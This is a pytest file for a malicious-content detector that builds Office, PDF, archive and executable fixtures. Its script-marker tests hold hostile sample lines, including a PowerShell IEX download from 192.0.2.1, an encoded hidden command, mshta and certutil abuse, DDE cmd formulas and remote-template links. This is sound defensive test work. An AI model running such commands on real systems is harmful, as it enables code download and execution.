"""Content judging: every fixture is built here, so each test shows exactly which bytes make a file unclean.

The OLE compound files are written by :func:`build_cfb`, a minimal CFB v3 writer (olefile can only
rewrite streams in place, and oletools ships no sample files in its wheel). It stores every stream in
regular 512-byte sectors, padding streams below the 4096-byte mini-stream cutoff, so it needs no mini
stream; olefile and olevba read the result like any Office file.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import re
import struct
import tarfile
import time
import uuid
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from segverify.capture.content import MAX_DEPTH, MAX_MEMBERS, MAX_TOTAL_BYTES, Verdict, judge

# ------------------------------------------------------------------------------------------------
# fixture builders


def build_cfb(entries: dict[str, bytes], root_clsid: str | None = None) -> bytes:
    """A CFB v3 (OLE2) file holding ``entries`` ("Storage/Sub/Stream" -> bytes); storages are implied."""
    sect = 512
    free, end, fatsect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    nodes: list[dict] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index = {"": 0}
    for path, data in entries.items():
        parts = path.split("/")
        for i in range(1, len(parts) + 1):
            key = "/".join(parts[:i])
            if key in index:
                continue
            stream = i == len(parts)
            nodes.append({"name": parts[i - 1], "type": 2 if stream else 1, "children": [],
                          "data": data.ljust(4096, b"\0") if stream else b""})  # fmt: skip
            index[key] = len(nodes) - 1
            nodes[index["/".join(parts[: i - 1])]]["children"].append(index[key])
    body = bytearray()
    starts: dict[int, int] = {}
    for i, n in enumerate(nodes):
        if n["type"] == 2:
            starts[i] = len(body) // sect
            body += n["data"] + b"\0" * (-len(n["data"]) % sect)
    ndir = -(-len(nodes) * 128 // sect)
    nfat = 1
    while nfat * 128 < nfat + ndir + len(body) // sect:
        nfat += 1
    base = nfat + ndir
    fat = [fatsect] * nfat + [nfat + k + 1 for k in range(ndir - 1)] + [end]
    for i, n in enumerate(nodes):
        if n["type"] == 2:
            first, count = base + starts[i], -(-len(n["data"]) // sect)
            fat += [first + k + 1 for k in range(count - 1)] + [end]
    fat += [free] * (nfat * 128 - len(fat))
    for n in nodes:  # children chained through right siblings, sorted as CFB requires
        kids = sorted(n["children"], key=lambda c: (len(nodes[c]["name"]), nodes[c]["name"].upper()))
        n["child"] = kids[0] if kids else free
        for a, b in zip(kids, kids[1:], strict=False):
            nodes[a]["right"] = b
    clsid = uuid.UUID(root_clsid).bytes_le if root_clsid else b"\0" * 16
    dirs = bytearray()
    for i, n in enumerate(nodes):
        name = n["name"].encode("utf-16-le") + b"\0\0"
        start = base + starts[i] if n["type"] == 2 else (end if n["type"] == 5 else 0)
        size = len(n["data"]) if n["type"] == 2 else 0
        dirs += name.ljust(64, b"\0") + struct.pack("<HBBIII", len(name), n["type"], 1, free, n.get("right", free),
                                                    n["child"])  # fmt: skip
        dirs += (clsid if n["type"] == 5 else b"\0" * 16) + b"\0" * 20 + struct.pack("<IQ", start, size)
    dirs += (b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, free, free, free) + b"\0" * 36 + b"\0" * 12) * (
        (ndir * sect - len(dirs)) // 128
    )
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<9I", 0, nfat, nfat, 0, 4096, end, 0, end, 0)
              + struct.pack("<109I", *(list(range(nfat)) + [free] * (109 - nfat))))  # fmt: skip
    return header + struct.pack(f"<{len(fat)}I", *fat) + bytes(dirs) + bytes(body)


WORD_FIB = b"\xec\xa5\xc1\x00" + b"\0" * 508  # a Word FIB with no flags set (not encrypted)
VBA_PROJECT = {  # the MS-OVBA layout olevba looks for: <root>/PROJECT, <root>/VBA/_VBA_PROJECT, <root>/VBA/dir
    "Macros/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
    "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
    "Macros/VBA/dir": b"\x01\x00\x00",
}


def biff_record(rtype: int, body: bytes) -> bytes:
    return struct.pack("<HH", rtype, len(body)) + body


def workbook_stream(sheets: list[tuple[bytes, int]]) -> bytes:
    """A BIFF8 Workbook stream: BOF, one BOUNDSHEET per (name, type: 0 worksheet, 1 XLM macro sheet), EOF."""
    out = biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x1234, 1997, 0, 0))
    for name, dt in sheets:
        out += biff_record(0x0085, struct.pack("<IBB", 0, 0, dt) + bytes([len(name), 0]) + name)
    return out + biff_record(0x000A, b"")


def make_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def encrypt_flag(zip_bytes: bytes) -> bytes:
    """Set the 'encrypted' flag bit in every local and central header (zipfile cannot write encrypted zips)."""
    b = bytearray(zip_bytes)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        while i >= 0:
            b[i + off] |= 1
            i = b.find(sig, i + 4)
    return bytes(b)


CT = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
      b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
      b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/'
      b'document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
      b"</Types>")  # fmt: skip
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*items: tuple[str, str, str | None]) -> bytes:
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{t}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (t, target, mode) in enumerate(items, 1)
    )
    return (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{body}</Relationships>').encode()  # fmt: skip


def docx(extra: dict[str, bytes] | None = None, document: bytes | None = None) -> bytes:
    members = {
        "[Content_Types].xml": CT,
        "_rels/.rels": rels(("officeDocument", "word/document.xml", None)),
        "word/document.xml": document
        or '<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>会議資料</w:t></w:r></w:p></w:body></w:document>'.encode(),
        "word/_rels/document.xml.rels": rels(("styles", "styles.xml", None)),
        "word/styles.xml": b"<w:styles/>",
    }
    members.update(extra or {})
    return make_zip(members)


def make_pdf(edit=None) -> bytes:
    w = PdfWriter()
    w.add_blank_page(200, 200)
    if edit:
        edit(w)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def pdf_with_object_stream() -> bytes:
    """A PDF 1.5 whose catalog and JavaScript action live only inside a Flate-compressed object stream.

    The raw byte scan cannot see these names; only the pypdf walk of ``xref_objStm`` can.
    """
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ]
    offsets, body = [], b""
    for o in objs:
        offsets.append(len(body))
        body += o + b"\n"
    index = b" ".join(b"%d %d" % (i + 1, off) for i, off in enumerate(offsets)) + b"\n"
    stm = zlib.compress(index + body)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    off5 = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(index), len(stm)) + stm + b"\nendstream\nendobj\n"  # fmt: skip
    off6 = len(out)
    rows = [b"\x00\x00\x00\xff"] + [b"\x02\x00\x05" + bytes([i]) for i in range(4)]
    rows += [b"\x01" + off5.to_bytes(2, "big") + b"\x00", b"\x01" + off6.to_bytes(2, "big") + b"\x00"]
    xref = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n" % len(xref)
    out += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % off6
    return out


PE = b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 50 + struct.pack("<I", 0x40) + b"PE\0\0" + b"\x4c\x01"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89"


def assert_clean(v: Verdict) -> None:
    assert v.clean is True, v


def assert_active(v: Verdict, *words: str) -> None:
    assert v.clean is False, v
    text = " ".join(v.reasons)
    for w in words:
        assert w in text, (w, v)


def assert_uninspectable(v: Verdict, *words: str) -> None:
    assert v.clean is None, v
    text = " ".join(v.reasons)
    for w in words:
        assert w in text, (w, v)


# ------------------------------------------------------------------------------------------------
# executables and scripts


def test_pe_elf_are_active_whatever_the_name() -> None:
    v = judge(PE, "report.pdf")
    assert v.kind == "pe"
    assert_active(v, "report.pdf", "PE")
    assert_active(judge(ELF, "notes.txt"), "ELF")


def test_dos_mz_without_pe_and_text_starting_with_mz() -> None:
    dos = b"MZ\x50\x00\x02\x00\x00\x00\x04\x00" + b"\0" * 54 + b"\xb4\x4c\xcd\x21"
    assert_active(judge(dos), "DOS MZ")
    assert_clean(judge(b"MZ is the prefix of our project code names; nothing to run here at all, honestly."))


@pytest.mark.parametrize(
    "magic", ["feedface", "feedfacf", "cefaedfe", "cffaedfe", "cafebabf", "bebafeca", "bfbafeca"]
)
def test_macho_all_magics(magic: str) -> None:
    v = judge(bytes.fromhex(magic) + b"\0\0\0\x02" + b"\0" * 24)
    assert v.kind == "macho"
    assert_active(v, "Mach-O")


def test_fat_macho_vs_java_class() -> None:
    fat = judge(b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\0" * 40)
    java = judge(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 40)  # major version 52 (Java 8)
    assert (fat.kind, java.kind) == ("macho", "java-class")
    assert_active(fat, "universal")
    assert_active(java, "Java class")


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"dex\n035\0" + b"\0" * 100, "DEX"),
        (b"\0asm\x01\0\0\0", "WebAssembly"),
        (bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60, "shortcut"),
        (b"ITSF\x03\0\0\0" + b"\0" * 80, "CHM"),
        (b"ActiveMime\0\0\xf0\x01" + b"\0" * 40, "ActiveMime"),
    ],
)
def test_other_code_formats(data: bytes, word: str) -> None:
    assert_active(judge(data), word)


def test_shebang_script() -> None:
    assert_active(judge(b"#!/bin/sh\nrm -rf /tmp/x\n", "x.txt"), "/bin/sh")
    assert_active(judge(b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n"), "python3")


@pytest.mark.parametrize(
    ("script", "word"),
    [
        ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')", "PowerShell"),
        ("powershell -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=", "PowerShell"),
        ("Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\"\r\n", "CreateObject"),
        ("On Error Resume Next\r\nDim x\r\n", "VBScript"),
        ("Sub AutoOpen()\r\n  MsgBox 1\r\nEnd Sub\r\n", "procedure"),
        ('var s = new ActiveXObject("WScript.Shell"); s.Run("calc");', "ActiveXObject"),
        ("eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "eval"),
        ("@echo off\r\nstart calc.exe\r\n", "@echo off"),
        ("copy %~dp0payload.dat %TEMP%\\x.exe\r\n", "batch"),
        ("certutil -decode a.b64 a.exe", "LOLBin"),
        ("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")", "LOLBin"),
        ('<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"></head></html>', "HTA"),
        ("<html><body><script>alert(1)</script></body></html>", "<script>"),
        ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', "event handler"),
        ('<a href="javascript:alert(1)">x</a>', "javascript:"),
        ('<xsl:stylesheet><msxsl:script language="JScript">x</msxsl:script></xsl:stylesheet>', "<script>"),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Run]\r\n", "registry"),
        ("[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n", "Internet shortcut"),
        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x\\icon.ico\r\n", ".scf"),
        ('<?xml version="1.0"?><w:wordDocument><w:binData w:name="editdata.mso">QWN0aXZlTWltZQ==', "macro"),
        ("name,amount\r\n=cmd|' /C calc'!A0,1\r\n", "DDE"),
    ],
)
def test_script_markers_in_text(script: str, word: str) -> None:
    v = judge(script.encode(), "readme.txt")
    assert v.kind == "script"
    assert_active(v, word, "readme.txt")


def test_utf16_and_shift_jis_scripts_are_decoded() -> None:
    ps = "\ufeffInvoke-Expression $x".encode("utf-16-le")
    assert_active(judge(ps), "Invoke-Expression")
    assert_active(judge("Invoke-Expression $x".encode("utf-16-le")), "Invoke-Expression")  # no BOM
    vbs = "' 設定\r\nSet o = CreateObject(\"Scripting.FileSystemObject\")\r\n".encode("cp932")
    assert_active(judge(vbs), "CreateObject")


@pytest.mark.parametrize(
    "text",
    [
        "本日の会議資料を送付します。ご確認ください。\r\n総務課".encode("cp932"),
        "本日の会議資料を送付します。".encode("euc_jp"),
        "令和6年度 予算要求資料\n第1四半期の執行状況について報告します。\n".encode(),
        b"Dear colleagues,\nplease find the minutes attached. Set the agenda for Monday; call me if needed.\n",
        b"id,name,amount\n1,Tanaka,1200\n2,Suzuki,-300\n3,Sato,@home\n",
        b'{"a": [1, 2, 3], "b": "function of the office"}',
        b"| col | x |\n|-----|---|\n| - a | b |\n",
        "\ufeffUTF-16 plain note".encode("utf-16"),
        b'<?xml version="1.0"?><rows><objectId>1</objectId><row onset="1" ongoing="y"/><scripts/></rows>',
        "住所,電話\n東京都,07070123456\n".encode("cp932"),
    ],
)
def test_plain_text_is_clean(text: bytes) -> None:
    v = judge(text)
    assert v.kind == "text"
    assert_clean(v)


def test_images_and_empty_are_clean() -> None:
    assert_clean(judge(PNG))
    assert judge(PNG).kind == "png"
    assert_clean(judge(b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 30))
    assert_clean(judge(b"GIF89a\x01\0\x01\0\x80\0\0" + b"\0" * 20))
    assert_clean(judge(b""))


def test_unknown_binary_is_not_inspectable() -> None:
    assert_uninspectable(judge(bytes(range(256)) * 4, "blob.dat"), "unrecognised")


def test_truncated_file_is_never_clean() -> None:
    assert_uninspectable(judge(b"hello world", "a.txt", truncated=True), "truncated")
    v = judge(PE[:80], "a.bin", truncated=True)
    assert_active(v, "PE", "truncated")


# ------------------------------------------------------------------------------------------------
# archives


def test_zip_with_exe_names_the_member() -> None:
    v = judge(make_zip({"docs/readme.txt": b"hello", "docs/setup.exe": PE}), "delivery.zip")
    assert v.kind == "zip"
    assert_active(v, "delivery.zip!docs/setup.exe", "PE")


def test_clean_zip_jar_style_class_member() -> None:
    assert_clean(judge(make_zip({"a.txt": b"hello", "b.png": PNG}, zipfile.ZIP_STORED)))
    assert_active(judge(make_zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "A.class": b"\xca\xfe\xba\xbe"
                                  b"\0\0\0\x34" + b"\0" * 20}), "x.jar"), "x.jar!A.class", "Java")  # fmt: skip


def nest_zip(levels: int, inner: bytes) -> bytes:
    data = inner
    for i in range(levels):
        data = make_zip({f"level{i}.zip" if i else "note.txt": data})
    return data


def test_nesting_up_to_the_depth_limit_is_inspected() -> None:
    assert_clean(judge(nest_zip(MAX_DEPTH, b"plain text")))
    assert_active(judge(nest_zip(MAX_DEPTH, PE), "outer.zip"), "outer.zip!level2.zip!level1.zip!note.txt")


def test_nesting_beyond_the_depth_limit_is_not_inspectable() -> None:
    assert_uninspectable(judge(nest_zip(MAX_DEPTH + 1, b"plain text")), "nesting deeper")


def test_zip_bomb_member_exceeds_size_cap() -> None:
    bomb = make_zip({"zeros.txt": b"\0" * (MAX_TOTAL_BYTES + 1024)})
    assert len(bomb) < 200_000
    t = time.monotonic()
    v = judge(bomb, "bomb.zip")
    assert time.monotonic() - t < 20
    assert_uninspectable(v, "exceeds", str(MAX_TOTAL_BYTES))


def test_zip_member_count_limit() -> None:
    v = judge(make_zip({f"f{i}.txt": b"x" for i in range(MAX_MEMBERS + 5)}, zipfile.ZIP_STORED))
    assert_uninspectable(v, f"more than {MAX_MEMBERS}")


def test_encrypted_zip_member_is_not_inspectable_but_active_content_still_wins() -> None:
    enc = encrypt_flag(make_zip({"secret.docx": b"x" * 100}))
    assert_uninspectable(judge(enc), "password-protected")
    mixed = make_zip({"a.exe": PE, "inner.zip": enc})
    assert_active(judge(mixed, "m.zip"), "m.zip!a.exe", "password-protected")


def test_corrupt_zip_is_not_inspectable() -> None:
    z = make_zip({"a.txt": b"hello" * 100})
    assert_uninspectable(judge(z[: len(z) // 2]), "corrupt zip")


def test_gzip_bzip2_xz_tar() -> None:
    assert_active(judge(gzip.compress(ELF), "tool.gz"), "tool", "ELF")
    assert_clean(judge(bz2.compress(b"hello"), "a.txt.bz2"))
    assert_clean(judge(lzma.compress(b"hello"), "a.txt.xz"))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in (("ok.txt", b"hello"), ("run.sh", b"#!/bin/sh\necho hi\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    v = judge(buf.getvalue(), "bundle.tgz")
    assert v.kind == "gzip"
    assert_active(v, "bundle.tar!run.sh")


def test_gzip_bomb_and_truncated_gzip() -> None:
    assert_uninspectable(judge(gzip.compress(b"\0" * (MAX_TOTAL_BYTES + 1))), "exceeds")
    gz = gzip.compress(b"hello world" * 1000)
    assert_uninspectable(judge(gz[:-20]), "truncated or corrupt")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 40, "7z"),
        (b"Rar!\x1a\x07\x01\x00" + b"\0" * 40, "rar"),
        (b"Rar!\x1a\x07\x00" + b"\0" * 40, "rar"),
        (b"MSCF\0\0\0\0" + b"\0" * 40, "cab"),
        (b"\0" * 0x8001 + b"CD001\x01" + b"\0" * 100, "iso"),
    ],
)
def test_unopenable_archives_are_not_inspectable(data: bytes, kind: str) -> None:
    v = judge(data)
    assert v.kind == kind
    assert_uninspectable(v, "cannot be opened")


# ------------------------------------------------------------------------------------------------
# OOXML and ODF


def test_clean_docx() -> None:
    v = judge(docx(), "minutes.docx")
    assert v.kind == "ooxml"
    assert_clean(v)


def test_docx_with_vba_project() -> None:
    v = judge(docx({"word/vbaProject.bin": build_cfb(VBA_PROJECT)}), "a.docx")
    assert_active(v, "a.docx!word/vbaProject.bin", "VBA")


def test_docx_with_external_template_relationship() -> None:
    settings_rels = rels(("attachedTemplate", "http://192.0.2.1/t.dotm", "External"))
    v = judge(docx({"word/_rels/settings.xml.rels": settings_rels}), "t.docx")
    assert_active(v, "external relationship attachedTemplate", "http://192.0.2.1/t.dotm")


def test_external_hyperlinks_only_flagged_for_non_web_schemes() -> None:
    web = rels(("hyperlink", "https://www.example.jp/", "External"), ("hyperlink", "mailto:a@example.jp", "External"))
    assert_clean(judge(docx({"word/_rels/document.xml.rels": web})))
    unc = rels(("hyperlink", "file://///192.0.2.1/share/x.exe", "External"))
    assert_active(judge(docx({"word/_rels/document.xml.rels": unc})), "hyperlink")
    msdt = rels(("oleObject", "mhtml:http://192.0.2.1/x.html!x-usc:http://192.0.2.1/x.html", "External"))
    assert_active(judge(docx({"word/_rels/document.xml.rels": msdt})), "oleObject")


@pytest.mark.parametrize(
    ("member", "word"),
    [
        ("word/embeddings/oleObject1.bin", "embedded object"),
        ("word/activeX/activeX1.xml", "ActiveX"),
        ("xl/macrosheets/sheet1.xml", "XLM"),
    ],
)
def test_ooxml_active_parts(member: str, word: str) -> None:
    assert_active(judge(docx({member: b"<x/>"})), word)


def test_executable_hidden_as_a_package_part() -> None:
    v = judge(docx({"word/media/image1.png": PE, "word/media/image2.png": PNG, "word/fonts/font1.odttf": b"\x8f" * 64}))
    assert_active(v, "word/media/image1.png", "PE")
    assert "image2" not in " ".join(v.reasons)


def test_docx_dde_field_split_across_runs() -> None:
    doc = (b'<w:document xmlns:w="x"><w:body><w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r>'
           b'<w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body>'
           b"</w:document>")  # fmt: skip
    assert_active(judge(docx(document=doc)), "DDE field")


def test_odf_macro_and_clean() -> None:
    base = {"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": b"<m/>",
            "content.xml": b"<office:document-content/>"}  # fmt: skip
    assert_clean(judge(make_zip(base), "a.odt"))
    v = judge(make_zip({**base, "Basic/Standard/Module1.xml": b"<script:module/>"}), "m.odt")
    assert_active(v, "m.odt!Basic/Standard/Module1.xml", "Basic macro")


# ------------------------------------------------------------------------------------------------
# OLE


def test_ole_without_macros_is_clean() -> None:
    v = judge(build_cfb({"WordDocument": WORD_FIB, "\x01CompObj": b"\x01\xfe"}), "a.doc")
    assert v.kind == "ole"
    assert_clean(v)


def test_ole_with_vba_project() -> None:
    assert_active(judge(build_cfb({"WordDocument": WORD_FIB, **VBA_PROJECT}), "m.doc"), "m.doc", "VBA macro")


def test_ole_with_xlm_macro_sheet() -> None:
    book = workbook_stream([(b"Sheet1", 0), (b"Auto_Open", 1)])
    v = judge(build_cfb({"Workbook": book}, root_clsid="00020820-0000-0000-C000-000000000046"), "x.xls")
    assert_active(v, "Excel 4.0", "Auto_Open")
    clean = workbook_stream([(b"Sheet1", 0)])
    assert_clean(judge(build_cfb({"Workbook": clean}, root_clsid="00020820-0000-0000-C000-000000000046")))


def test_ole_with_embedded_package() -> None:
    native = struct.pack("<I", 0) + b"\x02\x00" + b"evil.exe\0" + b"C:\\evil.exe\0" + b"\0\0\0\0"
    v = judge(build_cfb({"WordDocument": WORD_FIB, "ObjectPool/_1234/\x01Ole10Native": native,
                         "ObjectPool/_1234/\x01CompObj": b"\x01\xfe"}), "e.doc")  # fmt: skip
    assert_active(v, "Ole10Native", "embedded OLE object")


def test_encrypted_office_file_is_not_inspectable() -> None:
    enc = build_cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": b"\0" * 64})
    assert_uninspectable(judge(enc, "secret.docx"), "encrypted")


def test_msi_is_an_installer() -> None:
    v = judge(build_cfb({"\u4840\u3f3f": b"x"}, root_clsid="000C1084-0000-0000-C000-000000000046"), "a.bin")
    assert_active(v, "Windows Installer")


def test_outlook_msg_attachments_are_judged() -> None:
    att = "__attach_version1.0_#00000000"
    msg = {"__substg1.0_0037001F": "会議".encode("utf-16-le"), f"{att}/__substg1.0_37010102": PE,
           f"{att}/__substg1.0_3707001F": "請求書.exe".encode("utf-16-le")}  # fmt: skip
    assert_active(judge(build_cfb(msg), "mail.msg"), "mail.msg!請求書.exe", "PE")
    msg[f"{att}/__substg1.0_37010102"] = PNG  # (build_cfb pads streams with NULs, so not a text attachment)
    assert_clean(judge(build_cfb(msg), "mail.msg"))


def test_executable_in_an_ole_stream() -> None:
    assert_active(judge(build_cfb({"WordDocument": WORD_FIB, "Data": ELF})), "Data", "ELF")


def test_corrupt_ole() -> None:
    ole = build_cfb({"WordDocument": WORD_FIB})
    assert_uninspectable(judge(ole[:600]), "OLE")


# ------------------------------------------------------------------------------------------------
# RTF and PDF


def test_rtf_objects_and_templates() -> None:
    assert_clean(judge(b"{\\rtf1\\ansi\\deff0 {\\fonttbl{\\f0 MS Mincho;}}\\f0 hello\\par}", "a.rtf"))
    obj = b"{\\rtf1{\\object\\objemb\\objw10\\objh10{\\*\\objclass Package}{\\*\\objdata 01050000020000}}}"
    assert_active(judge(obj, "a.doc"), "RTF embedded object", "\\objdata")
    assert_active(judge(b"{\\rt{\\*\\template http://192.0.2.1/t.dotm}}"), "remote template")


def test_clean_pdf() -> None:
    v = judge(make_pdf(), "a.pdf")
    assert v.kind == "pdf"
    assert_clean(v)


def test_pdf_open_action_javascript() -> None:
    def open_action(w: PdfWriter) -> None:
        w._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )

    def name_tree(w: PdfWriter) -> None:  # document-level script, run on open without any /OpenAction
        action = w._add_object(DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("this.print()")}))
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), action])})
        w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})

    assert_active(judge(make_pdf(open_action)), "/OpenAction", "/JS")
    assert_active(judge(make_pdf(name_tree)), "/JavaScript")


def test_pdf_embedded_file() -> None:
    assert_active(judge(make_pdf(lambda w: w.add_attachment("setup.exe", PE))), "/EmbeddedFile")


def test_encrypted_pdf_is_not_inspectable() -> None:
    assert_uninspectable(judge(make_pdf(lambda w: w.encrypt("secret", algorithm="RC4-128"))), "encrypted")


def test_pdf_names_only_inside_object_stream_are_found_by_the_parser() -> None:
    data = pdf_with_object_stream()
    assert b"JavaScript" not in data
    assert_active(judge(data, "objstm.pdf"), "/OpenAction", "/JS")


def test_malformed_pdf_raw_scan_and_hex_escaped_names() -> None:
    broken = b"%PDF-1.7\n1 0 obj <</Type/Catalog/Open#41ction 2 0 R>> endobj 2 0 obj <</S/Launch/F (cmd.exe)>>"
    assert_active(judge(broken), "/OpenAction", "/Launch")
    assert_uninspectable(judge(b"%PDF-1.7\nthis is not a pdf body\n"), "could not be parsed")
    pdf = make_pdf()
    assert_uninspectable(judge(pdf[: len(pdf) // 2]), "PDF")


# ------------------------------------------------------------------------------------------------
# hostile input


SAMPLES = [
    PE, ELF, PNG, make_pdf(), pdf_with_object_stream(), docx(), make_zip({"a.exe": PE}), gzip.compress(b"x" * 100),
    build_cfb({"WordDocument": WORD_FIB, **VBA_PROJECT}), b"{\\rtf1{\\object\\objdata 0102}}",
]  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096))
def test_judge_never_raises_on_random_bytes(data: bytes) -> None:
    v = judge(data)
    assert v.clean in (True, False, None)
    assert isinstance(v.reasons, list)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(SAMPLES), st.lists(st.tuples(st.integers(0, 1 << 16), st.integers(0, 255)), max_size=8),
       st.integers(0, 1 << 16))  # fmt: skip
def test_judge_never_raises_on_mutated_samples(sample: bytes, flips: list[tuple[int, int]], cut: int) -> None:
    data = bytearray(sample)
    for pos, val in flips:
        if data:
            data[pos % len(data)] = val
    v = judge(bytes(data[: max(cut, 8)]), truncated=bool(cut % 2))
    assert v.clean in (True, False, None)
    if cut % 2:
        assert v.clean is not True


# --- _as_text's control-character count: the same decision as the regexes it replaced ----------------

_CONTROL_RE = re.compile(r"[\x00-\x08\x0e-\x1a\x1c-\x1f\x7f]")
_C1_RE = re.compile(r"[\x80-\x9f]")


def _as_text_reference(data: bytes) -> str | None:
    """The previous ``_as_text`` for data with no BOM and no NUL (findall on the decoded text)."""
    for enc in ("utf-8", "cp932", "euc_jp", "latin-1"):
        try:
            text = data.decode(enc)
        except UnicodeDecodeError:
            continue
        probe = text[: 1 << 20]
        n = max(1, len(probe))
        if len(_CONTROL_RE.findall(probe)) > 0.01 * n:
            return None
        if enc == "latin-1" and len(_C1_RE.findall(probe)) > 0.05 * n:
            return None
        return text
    return None


_TEXTISH = st.lists(st.sampled_from([b"a", b"Z", b" ", b"\n", b"\r\n", b"\t", b"\x1b", b"\x1a", b"\x01", b"\x7f",
                                     b"\x85", b"\x9f", b"\xe3\x81\x82", b"\x82\xa0", b"\xa4\xa2", b"\xff", b"\x0c",
                                     b"\x0b", b"\x1c"]), max_size=300).map(b"".join)


@settings(max_examples=400, deadline=None)
@given(_TEXTISH)
def test_as_text_counts_controls_as_the_regex_did(data: bytes) -> None:
    from segverify.capture.content import _as_text

    assume(not data.startswith((b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf")))
    assert _as_text(data) == _as_text_reference(data)
